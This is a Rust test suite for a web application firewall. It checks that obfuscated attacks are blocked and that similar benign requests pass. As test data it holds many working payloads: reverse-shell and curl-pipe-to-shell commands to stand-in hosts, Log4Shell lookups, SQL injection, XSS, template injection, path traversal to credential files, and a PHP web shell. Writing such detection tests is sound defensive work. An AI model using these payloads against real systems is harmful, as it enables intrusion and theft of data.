//! Attacks that hide: behind an ordinary value, in long names, within other values, in files, in headers. And ordinary
//! requests that look similar.

mod commands;
mod contents;
mod definitions;
mod files;
mod headers;

use weir_waf::inspection::Verdict;

use crate::send::{Sent, judged, view};

const SQL: &str = "1' UNION SELECT password FROM users-- x";

/// The same with escapes of JSON.
const ESCAPED: &str = r"1\u0027 \u0055NION \u0053ELECT password \u0046ROM users-- x";

fn value(text: &str) -> Sent {
    Sent::query("/page", &[("x", text.as_bytes())])
}

fn field(text: &str) -> Sent {
    Sent::form("/page", &[("x", text.as_bytes())])
}

fn json(body: &str) -> Sent {
    Sent::post("/page", "application/json", body)
}

fn header(name: &str, value: &str) -> Sent {
    Sent::get("/").with(name, value)
}

/// A multipart form with one part.
fn part(disposition: &str, media_type: &str, content: &[u8]) -> Sent {
    part_and("multipart/form-data; boundary=B", disposition, media_type, content, "\r\n")
}

fn part_and(form: &str, disposition: &str, media_type: &str, content: &[u8], end: &str) -> Sent {
    let mut head = format!("--B\r\nContent-Disposition: form-data; {disposition}\r\n");
    if !media_type.is_empty() {
        head += &format!("Content-Type: {media_type}\r\n");
    }
    let tail = format!("\r\n--B--{end}");
    Sent::post("/upload", form, [head.as_bytes(), b"\r\n", content, tail.as_bytes()].concat())
}

fn check(cases: impl IntoIterator<Item = (String, Sent)>, is_denied: bool) {
    let view = view(&crate::builtin(), &[]);
    let wrong: Vec<String> = cases
        .into_iter()
        .map(|(name, sent)| (name, judged(&view, &sent)))
        .filter(|(_, verdict)| (*verdict != Verdict::Pass) != is_denied)
        .map(|(name, verdict)| format!("{name}: {verdict:?}"))
        .collect();
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

fn named<T: std::fmt::Display>(
    texts: impl IntoIterator<Item = T>,
    make: impl Fn(&str) -> Sent,
) -> Vec<(String, Sent)> {
    texts.into_iter().map(|text| (text.to_string(), make(&text.to_string()))).collect()
}

#[test]
fn commands_are_found_behind_any_value_and_separator() {
    let long = "a".repeat(300);
    let before = [
        "",
        "8.8.8.8",
        "a@b.example",
        &long,
        "http://a.example/b",
        "10:30",
        "a/b",
        "a,b",
        "é",
        "\"a\"",
    ];
    let separators = [";", "; ", "|", " | ", "||", "&&", " && ", "\n", "$(", "`"];
    let commands = [
        "curl http://evil.example/x|sh",
        "wget -q http://evil.example/x",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la /",
        "nc -e /bin/sh 192.0.2.1 4444",
        "ping -c 3 evil.example",
        "bash -c id",
        "python3 -c 'import os'",
        "nslookup x.evil.example",
        "rm -rf /tmp/x",
        "chmod 777 /tmp/x",
        "find /etc -name x",
        "powershell -enc SQBFAFgA",
        "/usr/bin/id",
        "echo a > /tmp/x",
        "grep -r password /etc",
        "sleep 5",
        "ps aux",
        "ipconfig /all",
    ];
    let mut cases = Vec::new();
    for before in before {
        for (separator, command) in
            separators.iter().flat_map(|it| commands.map(|command| (it, command)))
        {
            let end = match *separator {
                "$(" => ")",
                "`" => "`",
                _ => "",
            };
            cases.push(format!("{before}{separator}{command}{end}"));
        }
    }
    check(named(cases, field), true);
}

#[test]
fn commands_are_found_whose_names_a_shell_puts_together() {
    let attacks = [
        "c''url http://e/x",
        "8.8.8.8;c''url http://e/x",
        "8.8.8.8;c\"\"url -o /var/www/s.php http://e/s",
        "8.8.8.8;cu\\rl http://e/x",
        "8.8.8.8|w\\get http://e/x -O-|b''ash",
        "8.8.8.8;w\\hoami",
        "8.8.8.8;'id'",
        "8.8.8.8;\"i\"d",
        "8.8.8.8;\\id",
        "8.8.8.8&&un''ame -a",
        "8.8.8.8;n''c 1.2.3.4 4444 -e /b''in/s''h",
        "$(c''url http://e/x)",
        "`c''url http://e/x`",
        "8.8.8.8&who^ami",
        "8.8.8.8&\"curl\" http://e/x",
        "8.8.8.8;cu$@rl http://e/x",
        "8.8.8.8;/b??/cat /etc/p?sswd",
        "8.8.8.8;/???/c?rl http://e/x",
        "8.8.8.8;/bin/[c]at /home/x",
        "8.8.8.8;X=curl;$X http://e/x",
        "8.8.8.8;a=who;${a}ami",
        "8.8.8.8;bash<<<id",
        "8.8.8.8;eval \"$(printf cu)rl x\"",
    ];
    check(named(attacks, field), true);
    check(named(attacks, value), true);
    check(
        named(attacks, |text| {
            json(&format!("{{\"host\":{}}}", serde_json(&text.replace('\n', " "))))
        }),
        true,
    );
    check(
        named(
            [
                "O'Brien; don't; can't",
                "Rock 'n' Roll; \"cat\" food & 'dog' food",
                "nr;\"id\";\"name\"\n1;\"2\";\"ls\"",
                "he said: \"ls\" & more",
                "C:\\bin\\cat; C:\\temp\\new",
                "a & \\textbf{x} \\\\ b & \\cite{y}",
                "(\\d+)|\\w+|[^;]*",
                "x^2 & y^2; z^2",
                "$5 & $6; US$10",
                "what? (who?) *note* [see a/b/c?]",
                "it's; 'tis the season",
                "src/**/*.rs; /a/*/b",
            ],
            field,
        ),
        false,
    );
}

#[test]
fn lookups_are_found_however_long_their_names_are() {
    let key = |bytes: usize| format!("${{${{{}:-j}}ndi:ldap://e/a}}", "a".repeat(bytes));
    let texts = [
        key(3),
        key(110),
        key(5_000),
        format!("${{${{a.b/c!{}:-j}}ndi:ldap://e/a}}", "x".repeat(50)),
        "${j${zz:-n}di:ldap://e/a}".to_owned(),
        "${${lower:${lower:j}}ndi:ldap://e/a}".to_owned(),
        "${${:-j}${:-n}${:-d}${:-i}:ldap://e}".to_owned(),
        "${jndi${nagli:-:}ldap:${::-/}/e/a}".to_owned(),
        format!("${{${{{}:-${{{}:-j}}}}ndi:ldap://e/a}}", "q".repeat(120), "r".repeat(120)),
    ];
    check(named(&texts, field), true);
    check(named(&texts, |text| header("X-Api-Version", text)), true);
}

#[test]
fn attacks_within_values_are_found() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let keys: String = (0..1_500).map(|it| format!("\"k{it}\":{it},")).collect();
    let quoted = |text: &str| serde_json(text);
    let octal: String = SQL.bytes().map(|byte| format!("\\{byte:03o}")).collect();
    let graphql = format!("{{user(id:\"{ESCAPED}\"){{x}}}}");
    let fields = [
        object.clone(),
        format!(" \n[1,[{object}]]"),
        format!("\"{ESCAPED}\""),
        format!("{{id:'{ESCAPED}'}}"),
        format!("/**/{object}"),
        format!("{{{keys}\"id\":\"{ESCAPED}\"}}"),
        graphql.clone(),
        r#"{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.to_owned(),
        r#"{"a":"x\u003bcurl http://evil.example/x|sh"}"#.to_owned(),
        r#"{"user":{"\u0024ne":1}}"#.to_owned(),
        r#"{"\u005f_proto__":{"a":1}}"#.to_owned(),
        r#"{"file":"\u002fetc\u002fshadow"}"#.to_owned(),
    ];
    check(named(&fields, field), true);
    check(named(&fields[..3], value), true);
    let strings = [
        format!("{{\"body\":{}}}", quoted(&object)),
        format!("{{\"body\":{}}}", quoted(&format!("{{\"body\":{}}}", quoted(&object)))),
        format!("{{\"query\":{}}}", quoted(&graphql)),
    ];
    check(named(&strings, json), true);
    let cookies = [
        format!("id=\"{octal}\""),
        "id=\"1' UN\\ION SEL\\ECT pass\\word FR\\OM users-- x\"".to_owned(),
        format!("id={object}"),
        format!("id=j%3A{}", object.replace('"', "%22").replace('{', "%7B").replace('\\', "%5C")),
        "a=b; id=\"192.0.2.1;curl http://evil.example/x|sh\"; c=d".to_owned(),
        r#"a=b; id="x\073curl http://evil.example/x|sh"; c=d"#.to_owned(),
    ];
    check(named(&cookies, |text| header("Cookie", text)), true);
    check(
        named(
            [
                r#"{"id":1,"name":"O'Brien","tags":["a","b"],"text":"Hello \u00e9 world"}"#,
                r"C:\users\udo\x41",
                "[tag] a text",
                "\"Quoted\" text, and more",
                "{{ not JSON",
            ],
            field,
        ),
        false,
    );
    check(
        named(["pref=\"a b c\"; cart=\"[9\\054 11]\"; t=1", "cart=%7B%22a%22%3A1%7D"], |text| {
            header("Cookie", text)
        }),
        false,
    );
}

#[test]
fn json_is_found_wherever_it_stands() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let mut deep = object.clone();
    for depth in 2..=8 {
        deep = format!("{{\"k\":{}}}", serde_json(&deep));
        let sent = [("json", json(&deep)), ("field", field(&deep)), ("value", value(&deep))];
        check(sent.map(|(name, sent)| (format!("{name} {depth}"), sent)), true);
    }
    let encoded: String = object.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let twice = encoded.replace('%', "%25");
    let references: String = SQL.bytes().map(|byte| format!("&#{byte};")).collect();
    let named = |name: &str| Sent::form("/page", &[(name, b"1")]);
    check(
        [
            ("name", named(&object)),
            ("name of an element", named(&format!("a[{object}]"))),
            ("name in the query", Sent::query("/page", &[(&object, b"1")])),
            ("cookie", header("Cookie", &format!("a={encoded}"))),
            ("cookie, encoded twice", header("Cookie", &format!("a={twice}"))),
            ("referrer", header("Referer", &format!("https://a.example/?x={encoded}"))),
            ("no-break space", field(&format!("\u{a0}{object}"))),
            ("field, encoded once more", field(&encoded)),
            ("field, encoded twice more", field(&twice)),
            ("query, encoded once more", value(&encoded)),
            ("backslashes, encoded once more", field(&object.replace('\\', "%5C"))),
            (
                "backslashes in a cookie",
                header("Cookie", &format!("a={}", object.replace('\\', "%5c"))),
            ),
            ("quote before a command", field("%27;c''url http://e/x")),
            ("string, encoded", json(&format!("{{\"a\":\"{encoded}\"}}"))),
            ("command, encoded once more", field("8.8.8.8;c%27%27url%20http://e/x")),
            ("references, encoded once more", field(&references.replace('#', "%23"))),
        ]
        .map(|(name, sent)| (name.to_owned(), sent)),
        true,
    );
    check(
        [
            ("name", named("items[0][name]")),
            ("quoted name", named("a[\"b\"]")),
            ("braces", named("{a}")),
            (
                "ordinary JSON, encoded once more",
                field("%7B%22a%22%3A%22b%20c%22%2C%22n%22%3A%5B1%5D%7D"),
            ),
            ("address with a path", field("https%3A%2F%2Fa.example%2F%3Fq%3DC%3A%5Cusers%5Cb")),
            ("percent signs", field("100% of \"it\"; 5%25 \\ 7 %5Cusers")),
            ("referrer", header("Referer", "https://a.example/?x=%7B%22a%22%3A%22b%5Cn%22%7D")),
        ]
        .map(|(name, sent)| (name.to_owned(), sent)),
        false,
    );
}

/// A text as a string of JSON.
fn serde_json(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn values_within_values_keep_the_name_of_the_outer_value() {
    let mut paths = vec![];
    for (name, text) in [
        ("x", "SecRuleUpdateTargetByTag attack-sqli !ARGS:x"),
        ("y", "SecRuleUpdateTargetByTag attack-sqli !ARGS:y"),
    ] {
        let path =
            std::env::temp_dir().join(format!("weir-waf-{}-{name}.conf", std::process::id()));
        std::fs::write(&path, text).expect("a file");
        paths.push(path);
    }
    let body = format!("{{\"id\":\"{ESCAPED}\"}}");
    let of = |last: &std::path::Path| {
        let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
        let all = weir_waf::builtin::paths().into_iter();
        let names = all.map(|it| folder.join(it.trim_start_matches("builtin/")));
        let rules = crate::data::compiled(names.chain([last.to_owned()]).collect());
        judged(&view(&rules, &[]), &field(&body))
    };
    assert_eq!(of(&paths[0]), Verdict::Pass);
    assert_ne!(of(&paths[1]), Verdict::Pass);
    paths.iter().for_each(|path| std::fs::remove_file(path).expect("the file"));
}

#[test]
fn attacks_in_headers_are_found() {
    let attacks = [
        SQL,
        "x' OR '1'='1",
        "1' AND SLEEP(5)-- -",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "$(cat /etc/passwd)",
        "x;curl http://evil.example/x|sh",
        "x|id",
        "() { :;}; /bin/bash -c id",
        "<?php system($_GET[0]);?>",
        "{{7*7}}",
    ];
    let names = [
        "Referer",
        "User-Agent",
        "X-Forwarded-Host",
        "X-Forwarded-For",
        "X-Custom",
        "X-Api-Key",
        "Origin",
        "From",
        "True-Client-IP",
        "Accept-Language",
        "Authorization",
    ];
    let cases = names.iter().flat_map(|name| {
        attacks.iter().map(move |attack| (format!("{name}: {attack}"), header(name, attack)))
    });
    check(cases, true);
}

#[test]
fn files_code_and_delays_in_values_are_found() {
    check(
        named(
            [
                "data:text/plain,<?=1?>",
                "data:,<?php phpinfo();",
                "data:text/plain;base64,PD9waHAgc3lzdGVtKDEpOw==",
                "data:;base64,PD89YGlkYDs=",
                "data:text/plain;base64,YWI8P3BocCBzeXN0ZW0oMSk7",
                "/WEB-INF/web.xml",
                "a/../web-inf/classes/x.class",
                ".git/config",
                "/app/.env",
                "../.env",
                "../config.php",
                "..\\config.php",
                "../app/settings.py",
                "./../config.php",
                "../config.php%00.png",
                "..//config.php",
                "../conf/server.xml",
                "../data.sqlite",
                "{{[0]|reduce('system','id')}}",
                "{{['id']|map('system')|join}}",
                "{{{'a':'id'}|map('system')}}",
                "{{ ['id']\n|\nsort(\"passthru\") }}",
                "{%set a=['id']|map('system')%}",
                "<%= elem(System.shell(\"id\"), 0) %>",
                "<%= System.cmd(\"id\",[]) %>",
                "<%= :os.cmd('id') %>",
                "<%= File.read!(\"/etc/passwd\") %>",
                "<%= `id` %>",
                "<% Code.eval_string(\"1\") %>",
                "1);begin user_lock.sleep(5); end",
                "1;begin dbms_lock.sleep(5); end;--",
                "1 and(select+1)>0waitfor/**/delay'0:0:10",
                "1waitfor delay'0:0:5'",
                "1)waitfor/**/time'10:10'",
                "1 or pg_sleep(5)--",
                "0union select 1,2",
                "1 and randomblob(500000000)",
            ],
            field,
        ),
        true,
    );
}

#[test]
fn ordinary_requests_that_look_similar_pass() {
    let iframe = |src: &str| {
        format!(
            "<p>See</p><iframe width=\"560\" src=\"{src}\" title=\"A video\" allow=\"autoplay; fullscreen\" allowfullscreen></iframe>"
        )
    };
    let texts = [
        "Home | Type - Example | date".to_owned(),
        "We met at noon; who knows what time it was; type \"yes\" to go on.".to_owned(),
        "Dear all,\n\nless is more.\nfind \"Nemo\" is a film.\nat https://example.com you see it"
            .to_owned(),
        "https://example.com/?a=1&id=5&sort=/a&host=x.y&type=a/b&set=1".to_owned(),
        "https://example.com/?a=b&id".to_owned(),
        "Server=db;Database=x;User Id=sa;Password=p;".to_owned(),
        "https://avatars.example.com/u/6752317?".to_owned(),
        iframe("https://www.youtube.com/embed/x?si=abc"),
        iframe("https://player.vimeo.com/video/76979871"),
        "Any SQL conditional expression (returning boolean) is fine.".to_owned(),
        "see [routing](../../../reference/routing.md)".to_owned(),
        "- [a](../../../../a.md)\n- ![b](../../b.png)".to_owned(),
        "<a href=\"../../../index.html\">x</a>".to_owned(),
        "import x from \"../../../lib/x\"".to_owned(),
        "price > 100 and price < 200".to_owned(),
        "age >= 18 and age <= 65".to_owned(),
        "temperature < 10 or temperature > 30".to_owned(),
        "100 % 2F".to_owned(),
        "group%2Fproject".to_owned(),
        "A".repeat(70_000),
    ];
    check(named(&texts, field), false);
    let objects: Vec<_> =
        (0..1_000).map(|id| format!("{{\"id\":{id},\"n\":\"x{id}\",\"z\":1}}")).collect();
    let long = format!("{{\"img\":\"data:image/png;base64,{}\"}}", "iVBORw0KGgo".repeat(20_000));
    check(named([format!("[{}]", objects.join(",")), long], json), false);
    check(
        [
            ("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; WOW64; SLCC2; .NET CLR 2.0.50727; .NET4.0C)"),
            ("User-Agent", "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)"),
            ("Authorization", "Digest username=\"M\", realm=\"r@h.example\", nonce=\"dcd98b\", uri=\"/d/i.html\", response=\"6629\""),
            ("Sec-CH-UA", "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
            ("If-None-Match", "W/\"5e1-abc\", \"x--y\""),
            ("Forwarded", "for=\"[2001:db8::1]\";proto=https;by=203.0.113.43"),
            ("Referer", "https://www.example.com/search?q=O'Brien+and+sons"),
            ("Link", "<https://a.example/x>; rel=\"next\""),
        ]
        .map(|(name, value)| (format!("{name}: {value}"), header(name, value))),
        false,
    );
}

#[test]
fn the_exclusions_for_crs_let_legitimate_requests_pass() {
    let Some(mut paths) = crate::data::paths() else { return };
    let of = |paths: &[std::path::PathBuf]| view(&crate::data::compiled(paths.to_vec()), &[]);
    let before = of(&paths);
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    paths.push(folder.join("../../examples/waf/crs-exclusions.conf"));
    let after = of(&paths);
    let video = "<iframe src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>";
    for sent in [
        json("{\"avatar_url\":\"https://avatars.example.com/u/6752317?\"}"),
        Sent::form("/", &[("html", video.as_bytes())]),
        Sent::form("/", &[("post[text]", b"see [routing](../../../reference/routing.md)")]),
        Sent::form("/", &[("filter", b"5 > 3 and 2 < 4")]),
        part("name=\"f\"; filename=\"Tom; Jerry.mp4\"", "", b"x"),
    ] {
        let text = String::from_utf8_lossy(&sent.body).into_owned();
        assert_ne!(judged(&before, &sent), Verdict::Pass, "{text}");
        assert_eq!(judged(&after, &sent), Verdict::Pass, "{text}");
    }
    // Other fields are still judged.
    assert_ne!(judged(&after, &Sent::form("/", &[("q", video.as_bytes())])), Verdict::Pass);
}
